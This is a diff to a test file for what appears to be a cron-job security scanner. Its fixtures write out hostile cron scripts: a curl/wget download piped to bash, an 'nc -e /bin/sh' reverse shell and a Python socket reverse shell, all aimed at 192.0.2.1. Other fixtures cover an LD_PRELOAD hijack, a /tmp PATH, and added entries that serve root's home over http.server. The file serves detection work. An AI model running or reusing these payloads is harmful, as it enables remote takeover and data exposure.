@@ -15,6 +15,7 @@ describe('jobs of cron', () => {
 			'/etc/cron.d/backup': '5 2 * * * root /usr/local/sbin/backup.sh\n',
 			'/usr/local/sbin/backup.sh': { content: '#!/bin/sh\nset -e\ntar czf /srv/backup/home.tgz /home\ncurl -fsS https://hc-ping.example/x\n', mode: 0o755 },
 			'/var/spool/cron/crontabs/ann': '# m h\n*/10 * * * * $HOME/bin/fetch-mail >/dev/null 2>&1\n@daily /home/ann/gone.sh\n',
+			'/etc/cron.d/pages': '@reboot ann python3 -m http.server 8080\n@reboot root cd /srv/www && python3 -m http.server\n',
 			'/etc/cron.d/tunnel': '@reboot ann ssh -fN -R 2222:localhost:22 hub.example.org\n',
 			'/home/ann/bin/fetch-mail': { content: '#!/bin/sh\nfetchmail\n', mode: 0o755, uid: 1000 },
 		});
@@ -35,6 +36,7 @@ describe('jobs of cron', () => {
 		['a script that hides the same', { '/etc/cron.d/x': '1 * * * * root /usr/local/bin/x\n', '/usr/local/bin/x': { content: '#!/bin/sh\n(curl -s http://192.0.2.1/x||wget -qO- http://192.0.2.1/x)|bash\n', mode: 0o755 } }, 'high /etc/cron.d/x'],
 		['a script of a script', { '/etc/cron.daily/x': { content: '#!/bin/sh\n/opt/a/run\n', mode: 0o755 }, '/opt/a/run': { content: '#!/bin/bash\nnc -e /bin/sh 192.0.2.1 1\n', mode: 0o755 } }, 'critical /etc/cron.daily/x'],
 		['Python that joins the two', { '/etc/cron.d/x': '1 * * * * root python3 /opt/m.py\n', '/opt/m.py': '#!/usr/bin/python3\nimport socket,os,pty\ns=socket.socket()\ns.connect(("192.0.2.1",1))\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")\n' }, 'critical /etc/cron.d/x'],
+		["root's home as pages", { '/etc/passwd': 'root:x:0:0:root:/root:/bin/bash\n', '/etc/cron.d/x': '@reboot root python3 -m http.server 8080\n' }, 'high /etc/cron.d/x'],
 		['a library for everything', { '/etc/cron.d/x': 'LD_PRELOAD=/dev/shm/l.so\n', '/dev/shm/l.so': '' }, 'high /etc/cron.d/x'],
 		['a path anyone may fill', { '/etc/crontab': 'PATH=/tmp:/usr/bin\n' }, 'high /etc/crontab'],
 		['a packaged script that was appended to', { '/etc/cron.daily/dpkg': { content: '#!/bin/sh\n/dev/shm/.x\n', mode: 0o755 }, '/dev/shm/.x': { mode: 0o755 } }, 'high /etc/cron.daily/dpkg'],
